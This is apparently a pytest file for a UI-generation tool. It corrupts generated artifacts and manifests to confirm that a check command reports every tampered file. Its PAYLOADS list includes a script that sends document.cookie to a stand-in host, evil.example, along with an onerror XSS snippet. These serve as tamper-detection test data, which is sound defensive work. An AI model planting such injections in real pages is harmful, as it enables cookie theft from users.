"""Whatever is changed in a generated directory: an artifact that its sources do not give is told by check."""

import json
import random
import tomllib
from collections import Counter
from dataclasses import replace

import pytest
import tomli_w

import genui.build
import genui.generate
import genui.link
import genui.pages
import genui.validate
from genui.assets import load_assets
from genui.build import compile_project
from genui.canonical import pretty_json, sha256
from genui.config import load_config
from genui.errors import GenuiError
from genui.model import Snapshot, Step, Tool, View
from genui.plan import plan_build, with_example
from genui.refine import refine_view
from genui.snapshot import snapshot_of
from genui.store import read_store, write_store
from genui.viewfile import read_view, source_files, view_sum
from genui.wishes import wishes_of

SINGLE, CONSISTENT = 420, 180

ROWS = {
    "type": "object",
    "properties": {"items": {"type": "array", "items": {"type": "object", "properties": {
        "id": {"type": "string"}, "price": {"type": "number"}, "at": {"type": "string", "format": "date"}}}}},
}  # fmt: skip
ARGUMENTS = {"type": "object", "properties": {"location": {"type": "string"}, "days": {"type": "integer"}}}
NAMES = ("plain", "small", "refined", "written", "steered", "brought", "paged", "mine")
TOOLS = [
    {"name": name, "description": f"The {name} one.", "inputSchema": ARGUMENTS, "outputSchema": ROWS}
    for name in NAMES
]
PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Page</title></head>
<body><main><h1>Page</h1><p id="out" role="status">Waiting.</p></main>
<script type="module">
import { App } from "@modelcontextprotocol/ext-apps";
const app = new App({ name: "page", version: "1" });
app.ontoolresult = (result) => { document.getElementById("out").textContent = JSON.stringify(result); };
app.ontoolcancelled = () => { document.getElementById("out").textContent = "Cancelled."; };
await app.connect();
</script></body></html>
"""
PAYLOADS = [
    b'<script>fetch("https://evil.example/" + document.cookie)</script>',
    b"<img src=x onerror=alert(1)>",
    b"<style>main{display:none}</style>",
    b" ",
    b"\n",
    b"\x00",
]
TOML = '[upstream]\ncommand = "x"\n[tools.small]\nkind = "minimal"\n'


@pytest.fixture(scope="module")
def remembering():
    """Have what is pure and slow done once for equal inputs, for the whole module."""
    with pytest.MonkeyPatch.context() as patch:
        for module, name in (
            (genui.link, "link"),
            (genui.pages, "linked_page"),
            (genui.generate, "baseline"),
            (genui.validate, "validate_artifact"),
        ):
            patch.setattr(module, name, remembered(getattr(module, name)))
        yield


def remembered(function):
    results = {}

    def call(*given, **more):
        key = sha256(repr((given, sorted(more.items()))).encode())
        if key not in results:
            results[key] = function(*given, **more)
        return results[key]

    return call


@pytest.fixture(scope="module")
def built(tmp_path_factory, remembering):
    """A directory with a view of every kind, fresh, and what is needed to check it."""
    home = tmp_path_factory.mktemp("project")
    (home / "genui.toml").write_text(TOML, encoding="utf-8")
    config = load_config(home / "genui.toml", environ={})
    snapshot = Snapshot({"name": "s", "version": "1"}, "2025-11-25", tuple(map(Tool, TOOLS)))

    def build():
        made = compile_project(snapshot, config, read_store(config.generated), load_assets("templates"))
        write_store(config.generated, made.files, remove=made.remove)
        return made

    build()
    for job in plan_build(snapshot, config, read_store(config.generated)).jobs:
        view = written_otherwise(job.tool, job.stored.view)
        if view is not job.stored.view:
            edited = job.slug == "mine"
            source = job.source if edited else genui.plan.source_of(job.tool, job.wishes)
            source = genui.digests.imported_digest(job.tool) if view.generator == "imported" else source
            files = source_files(job.slug, view, source=source)
            if edited:
                name = "mine.view.json"
                document = json.loads(files[name]) | {"sum": view_sum(job.stored.view)}
                files[name] = pretty_json(document)
            write_store(config.generated, files)
    build()
    assert build().clean
    return config


def written_otherwise(tool, view):
    """Return the view as somebody else has made it, by the tool's name."""
    if tool.name in {"refined", "steered"}:
        view = refine_view(view, tool, "rename price to Cost").view
    match tool.name:
        case "written" | "steered":
            origin = {"provider": "openai", "model": "m", "prompt": "generate_spec"}
            return replace(view, generator="spec", origin=origin, spec={**view.spec, "title": "By a model"})
        case "brought":
            return View(tool.name, {}, "imported", page=PAGE)
        case "paged":
            return View(tool.name, {}, "html", page=PAGE.replace("Page", "Other"), ledger=(Step("x", ()),))
        case "mine":
            return replace(view, spec={**view.spec, "title": "Mine"})
    return view


def contents(directory):
    return {path.name: path.read_bytes() for path in directory.iterdir() if path.is_file()}


def kind_of(name):
    """Return which kind of file it is: "paged page.html", "refined artifact", "manifest.toml"."""
    slug, _, rest = name.partition(".")
    if slug not in NAMES:
        return name
    return f"{slug} {rest}" if rest in {"view.json", "page.html"} else f"{slug} artifact"


def unlinked(config, directory):
    """Return the tools whose served artifact is not what view file, tool and config give."""
    wrong, manifest = set(), tomllib.loads((directory / "manifest.toml").read_text("utf-8"))
    tools = {tool.name: tool for tool in snapshot_of((directory / "tools.json").read_bytes(), where="").tools}
    for name, entry in manifest["tools"].items():
        if name not in tools or not (directory / entry["file"]).is_file():
            continue
        page = directory / f"{name}.page.html"
        try:
            data = page.read_bytes() if page.is_file() else None
            stored = read_view((directory / f"{name}.view.json").read_bytes(), page=data)
            linked = link_of(config, tools[name], stored)
        except (OSError, ValueError, GenuiError, RecursionError):
            linked = None
        if linked != (directory / entry["file"]).read_bytes():
            wrong.add(name)
    return wrong


def link_of(config, tool, stored):
    assets, view = load_assets("templates"), stored.view
    if view.page is not None:
        return genui.pages.linked_page(tool, view.page, assets, source=stored.source).html
    view = with_example(view, wishes_of(config, tool.name))
    return genui.link.link(tool, view, assets, source=stored.source)


def told(config, directory):
    """Return the states that check tells, by tool; None where it refuses the directory."""
    try:
        stored = read_store(directory)
        snapshot = snapshot_of(stored.snapshot, where="tools.json")
        made = compile_project(snapshot, config, stored, load_assets("templates"))
    except GenuiError:
        return None
    return {outcome.name: outcome.state for outcome in made.outcomes}


def assert_told(config, directory, what):
    """Hold check to its promise about a directory; return how many artifacts are not what they should be."""
    states = told(config, directory)
    if states is None:
        return 1
    wrong = unlinked(config, directory)
    silent = [name for name in wrong if states.get(name) == "fresh"]
    assert not silent, f"{what}: {silent} are fresh"
    return len(wrong)


def written(directory, files):
    for path in directory.iterdir():
        path.unlink()
    for name, data in files.items():
        (directory / name).write_bytes(data)


def changed(data, dice):
    """Return bytes with one change at a random place."""
    at = dice.randrange(len(data))
    match dice.randrange(5):
        case 0:
            return data[:at] + bytes([data[at] ^ (1 << dice.randrange(8))]) + data[at + 1 :]
        case 1:
            return data[:at] + data[at + dice.randint(1, 40) :]
        case 2:
            return data[:at] + dice.choice(PAYLOADS) + data[at:]
        case 3:
            return data[:at] + data[at : at + 30] + data[at:]
    return data.replace(b"\n", b"\r\n") if b"\n" in data else data[:at]


def test_every_single_change_that_makes_an_artifact_wrong_is_told(built, tmp_path):
    files, dice, counts, wrong = contents(built.generated), random.Random(16), Counter(), Counter()
    for number in range(SINGLE):
        name = sorted(files)[number % len(files)]
        mutated = changed(files[name], dice)
        if mutated == files[name]:
            continue
        written(tmp_path, {**files, name: mutated})
        counts[kind_of(name)] += 1
        wrong[kind_of(name)] += assert_told(built, tmp_path, f"{name} #{number}") > 0

    artifacts = [kind for kind in counts if kind.endswith("artifact")]
    assert len(artifacts) == len(NAMES)
    assert all(wrong[kind] == counts[kind] for kind in artifacts), (counts, wrong)
    assert counts.total() >= SINGLE - 20, counts


def consistent_change(files, dice):
    """Return the name of a change that keeps all names and digests right, the tool, and the files."""
    files, manifest = dict(files), tomllib.loads(files["manifest.toml"].decode())
    name, how = dice.choice(NAMES), dice.choice(list(CHANGES))
    entry = manifest["tools"][name]
    html = files.pop(entry["file"])
    html = CHANGES[how](files, manifest, name, html, dice)
    digest = sha256(html)
    entry |= {"sha256": digest, "file": f"{name}.{digest[:12]}.html"}
    files[entry["file"]] = html
    files["manifest.toml"] = tomli_w.dumps(manifest).encode()
    return how, name, files


def with_payload(html, dice):
    at = dice.randrange(len(html))
    return html[:at] + dice.choice(PAYLOADS[:3]) + html[at:]


def only_the_artifact(files, manifest, name, html, dice):
    return with_payload(html, dice)


def another_version(files, manifest, name, html, dice):
    manifest["genui"] = "99.0.0"
    return with_payload(html, dice)


def another_runtime(files, manifest, name, html, dice):
    meta = b'<meta name="genui-runtime" content="0123456789ab">'
    return with_payload(html, dice).replace(b"<title>", meta + b"<title>", 1)


def html_mode(files, manifest, name, html, dice):
    manifest["tools"][name] |= {"generator": "html", "page": sha256(PAGE.encode()), "model": "m"}
    return with_payload(html, dice)


def an_imported_page(files, manifest, name, html, dice):
    tool = next(tool for tool in TOOLS if tool["name"] == name)
    view = View(name, {}, "imported", page=PAGE)
    files |= source_files(name, view, source=genui.digests.imported_digest(Tool(tool)))
    manifest["tools"][name] |= {"generator": "imported", "page": sha256(PAGE.encode())}
    return with_payload(html, dice)


def another_tools_artifact(files, manifest, name, html, dice):
    other = manifest["tools"][dice.choice([one for one in NAMES if one != name])]
    return files.get(other["file"], b"")


def another_tools_view(files, manifest, name, html, dice):
    other = dice.choice([one for one in NAMES if one not in (name, "brought", "paged")])
    document = json.loads(files[f"{other}.view.json"]) | {"tool": name}
    files[f"{name}.view.json"] = pretty_json(document)
    return html


def a_view_file_with_a_right_sum(files, manifest, name, html, dice):
    path = f"{name}.view.json"
    document = json.loads(files[path])
    document.setdefault("spec", {})["title"] = f"Title {dice.random()}"
    page = files.get(f"{name}.page.html")
    stored = read_view(json.dumps(document).encode(), page=page)
    files[path] = pretty_json(document | {"sum": view_sum(stored.view)})
    return html


def a_page_file_with_a_right_sum(files, manifest, name, html, dice):
    files[f"{name}.page.html"] = PAGE.replace("Waiting", f"Wait {dice.random()}").encode()
    document = json.loads(files[f"{name}.view.json"])
    stored = read_view(json.dumps(document).encode(), page=files[f"{name}.page.html"])
    files[f"{name}.view.json"] = pretty_json(document | {"sum": view_sum(stored.view)})
    return with_payload(html, dice)


CHANGES = {
    change.__name__: change
    for change in (
        only_the_artifact,
        another_version,
        another_runtime,
        html_mode,
        an_imported_page,
        another_tools_artifact,
        another_tools_view,
        a_view_file_with_a_right_sum,
        a_page_file_with_a_right_sum,
    )
}


def test_every_change_that_keeps_names_and_digests_right_is_told(built, tmp_path):
    files, dice, counts, wrong = contents(built.generated), random.Random(17), Counter(), Counter()
    for _ in range(CONSISTENT):
        how, name, mutated = consistent_change(files, dice)
        written(tmp_path, mutated)
        counts[how] += 1
        wrong[how] += assert_told(built, tmp_path, f"{how} of {name}") > 0

    assert set(counts) == set(CHANGES)
    assert all(wrong[how] for how in CHANGES), (counts, wrong)
    assert counts.total() == CONSISTENT
